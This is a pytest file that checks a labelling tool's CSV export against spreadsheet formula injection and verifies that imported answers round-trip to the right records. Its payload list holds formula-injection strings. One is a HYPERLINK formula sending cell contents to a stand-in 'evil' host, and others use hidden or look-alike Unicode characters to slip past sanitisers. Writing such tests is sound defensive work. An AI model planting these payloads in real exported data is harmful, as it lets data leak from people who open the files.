"""What is exported for a spreadsheet holds no formula, and the answers that come back are the same."""

import csv
import io
import json

import pytest

from tests.attacks.commands import invoke, lines

FORMULAS = [
    '=HYPERLINK("http://evil/"&A1)', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\x00=1", "\ufeff=1",
    "\u2060=1", "\u00ad=1", "\u200e=1", "\u202a=1", "\u180e=1", "\u00a0\u2003=1", "\u2028=1", "\u3164=1", "\u034f=1",
    "\u2212" "1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
    "=", "-", "\t", "\r", '="a""b"', "'=1", "x;=1", "x\t=1", "x\n=1", 'x",=1', "x\r=1",
]  # fmt: skip
SIGNS = "=+-@\u2212\t\r\n\uff0b\uff0d\uff1d\uff20"


def records(text):
    other = [{"role": "user", "content": text}]
    rows = [(text, "a", "b"), ("q", text, "b"), ("q", "a", text), (other, "a", "b")]
    return lines(*({"prompt": p, "responses": [{"text": a}, {"text": b}]} for p, a, b in rows))


def exported(data):
    result = invoke("relabel", "human", "--export", "csv", data=data)
    assert result.exit_code == 0
    return result.stdout_bytes.decode()


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_no_cell_begins_a_formula(text):
    table = exported(records(text))
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert [len(row) for row in rows] == [6] * 5
    unseen = " \x00\ufeff\u2060\u00ad\u200e\u202a\u180e\u00a0\u2003\u2028\u3164\u034f"
    cells = [cell.strip(unseen) for row in rows for cell in row]
    assert not [cell for cell in cells if cell and cell[0] in SIGNS]


@pytest.mark.parametrize(
    "text", ["fine;=1+1", "fine\t@SUM(1)", "b\n=1+1", "b\r\n +1", "b;\t-1+1", "b\u2028=1"], ids=repr
)
@pytest.mark.parametrize("separator", [";", "\t"], ids=repr)
def test_no_cell_begins_a_formula_where_another_separator_is_meant(text, separator):
    """As in the spreadsheets of countries that write a comma in numbers; a reader may end rows at any line end."""
    for line in exported(records(text)).splitlines():
        for cell in line.split(separator):
            assert cell.strip(' "')[:1] not in {*SIGNS}


def test_an_item_of_a_list_stays_as_it_is():
    assert '"x\n- one\n- two"' in exported(records("x\n- one\n- two"))


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_answers_come_back_with_the_texts_of_the_records(text, tmp_path):
    data = records(text)
    table = exported(data)
    assert table.count(",,\n") >= 4
    (tmp_path / "answers.csv").write_text(table.replace(",,\n", ",a,\n"), newline="")
    labeled = invoke("relabel", "human", "--import", tmp_path / "answers.csv", data=data)
    assert labeled.exit_code == 0
    rows = [json.loads(line) for line in labeled.stdout_bytes.splitlines()]
    assert len(rows) == 4
    for row, given in zip(rows, map(json.loads, data.splitlines()), strict=True):
        texts = [turn[0]["content"] if isinstance(turn, list) else turn for turn in (row["chosen"], row["rejected"])]
        assert sorted(texts) == sorted(response["text"] for response in given["responses"])
        assert row["prompt"] == given["prompt"]
